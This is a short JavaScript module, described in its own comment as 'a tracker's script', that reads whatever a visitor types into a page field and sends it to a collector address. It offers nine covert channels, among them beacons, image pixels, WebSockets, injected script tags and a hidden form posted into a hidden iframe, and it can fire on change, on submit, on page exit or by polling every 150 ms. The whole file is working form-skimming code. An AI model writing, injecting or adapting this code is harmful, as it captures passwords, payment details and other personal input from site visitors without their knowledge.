/**
 * A tracker's script: takes what is typed into a field and sends it. Runs in a page, after the bundle
 * `codings`; self-contained.
 *
 * @param {object} options
 * @param {string} options.to Address of the collector.
 * @param {string} [options.field] Selector, any text field unless said.
 * @param {string} options.coding Names of `entries/codings.mjs`, joined with `>`.
 * @param {string} options.channel
 * @param {'change' | 'submit' | 'pagehide' | 'poll'} [options.when]
 */
export function takeField({ to, field = 'input', coding, channel, when = 'change' }) {
  const taken = () => globalThis.coded(document.querySelector(field).value, coding);
  const asQuery = () => `${to}?d=${taken()}`;
  const ways = {
    fetch: () => fetch(to, { method: 'POST', body: taken(), keepalive: true }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', to);
      request.send(taken());
    },
    img: () => {
      new Image().src = asQuery();
    },
    beacon: () => navigator.sendBeacon(to, taken()),
    blob: () => navigator.sendBeacon(to, new Blob([taken()], { type: 'application/json' })),
    parts: () => {
      const parts = new FormData();
      parts.append('visitor', taken());
      parts.append('event', 'lead');
      void fetch(to, { method: 'POST', body: parts });
    },
    ws: () => {
      const socket = new WebSocket(to);
      socket.onopen = () => socket.send(taken());
    },
    script: () => {
      const script = document.createElement('script');
      script.src = asQuery();
      document.head.append(script);
    },
    form: () => {
      const frame = document.createElement('iframe');
      frame.name = 'away';
      const form = document.createElement('form');
      Object.assign(form, { action: to, method: 'post', target: 'away', hidden: true });
      const input = document.createElement('input');
      Object.assign(input, { name: 'd', type: 'hidden', value: taken() });
      form.append(input);
      document.body.append(frame, form);
      form.submit();
    },
  };
  const send = () => {
    if (document.querySelector(field)?.value) ways[channel]();
  };
  if (when === 'change') document.addEventListener('change', send);
  else if (when === 'submit') document.addEventListener('submit', send, true);
  else if (when === 'pagehide') addEventListener('pagehide', send);
  else {
    let last = '';
    setInterval(() => {
      const { value } = document.querySelector(field);
      if (value.length > 5 && value === last) {
        send();
        last = `${value}, sent`;
      } else if (last !== `${value}, sent`) last = value;
    }, 150);
  }
}
